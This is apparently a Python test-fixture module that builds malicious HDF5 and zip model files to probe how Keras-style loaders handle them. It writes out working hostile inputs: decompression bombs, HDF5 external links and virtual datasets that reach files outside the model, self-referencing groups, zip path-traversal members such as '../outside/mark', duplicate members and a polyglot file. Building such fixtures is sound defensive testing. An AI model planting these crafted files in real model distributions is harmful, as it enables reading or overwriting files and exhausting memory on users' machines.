"""Attacks by the containers: arrays in HDF5 that lead elsewhere or declare too much, members of archives."""

import h5py
from attack_making import HONEST, ZIPS, attack, with_arrays, with_members


@attack("bomb:h5")
def declared_array(kind, target, outside):
    def change(file, name):
        del file[name]
        file.create_dataset(name, (1 << 15, 1 << 14, 1, 1), "f4", chunks=(1024, 1024, 1, 1), compression="gzip")

    with_arrays(kind, target, change)


@attack("bomb:h5")
def array_that_was_never_written(kind, target, outside):
    def change(file, name):
        del file[name]
        file.create_dataset(name, (1 << 14, 1 << 10), "f4", chunks=(1024, 1024))

    with_arrays(kind, target, change)


@attack("file:h5-external")
def array_in_another_file(kind, target, outside):
    def change(file, name):
        del file[name]
        file.create_dataset(name, (3, 3, 3, 6), "f4", external=[(str(outside / "raw.bin"), 0, 648)])

    with_arrays(kind, target, change)


@attack("file:h5-external")
def virtual_array(kind, target, outside):
    def change(file, name):
        del file[name]
        layout = h5py.VirtualLayout((3, 3, 3, 6), "f4")
        layout[:] = h5py.VirtualSource(str(outside / "other.h5"), "k", (3, 3, 3, 6))
        file.create_virtual_dataset(name, layout)

    with_arrays(kind, target, change)


@attack("file:h5-link")
def link_to_another_file(kind, target, outside):
    def change(file, name):
        del file[name]
        file[name] = h5py.ExternalLink(str(outside / "other.h5"), "k")

    with_arrays(kind, target, change)


@attack("file:h5-link")
def soft_link(kind, target, outside):
    def change(file, name):
        file.move(name, "elsewhere")
        file[name] = h5py.SoftLink("/elsewhere")

    with_arrays(kind, target, change)


@attack("file:h5-link", "keras2-h5")
def group_in_itself(kind, target, outside):
    def change(file, name):
        file["model_weights/conv1/again"] = file["model_weights"]

    with_arrays(kind, target, change)


@attack("file:h5-link")
def array_under_two_names(kind, target, outside):
    def change(file, name):
        file[f"{name}_again"] = file[name]

    with_arrays(kind, target, change)


@attack("file:h5-filter")
def plug_in_filter(kind, target, outside):
    def change(file, name):
        shape = file[name].shape
        del file[name]
        settings = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
        settings.set_chunk(shape)
        settings.set_filter(32015, h5py.h5z.FLAG_OPTIONAL, (1,))
        space = h5py.h5s.create_simple(shape)
        h5py.h5d.create(file.id, name.encode(), h5py.h5t.IEEE_F32LE, space, dcpl=settings)

    with_arrays(kind, target, change)


@attack("file:zip", "keras3-zip")
def climbing_member(kind, target, outside):
    with_members(kind, target, {"../outside/mark": b"x"})


@attack("file:zip", "keras3-zip")
def climbing_asset(kind, target, outside):
    with_members(kind, target, {"assets/../../outside/mark": b"x"})


@attack("file:zip", *ZIPS)
def member_twice(kind, target, outside):
    with_members(kind, target, {}, twice=[("config.json", b"{}")])


@attack("bomb:zip", *ZIPS)
def zip_bomb(kind, target, outside):
    with_members(kind, target, {"config.json": b" " * (300 << 20)})


@attack("file:polyglot", "keras2-h5")
def two_files_in_one(kind, target, outside):
    target.write_bytes(HONEST["keras2-h5"].read_bytes() + HONEST["keras2-zip"].read_bytes())
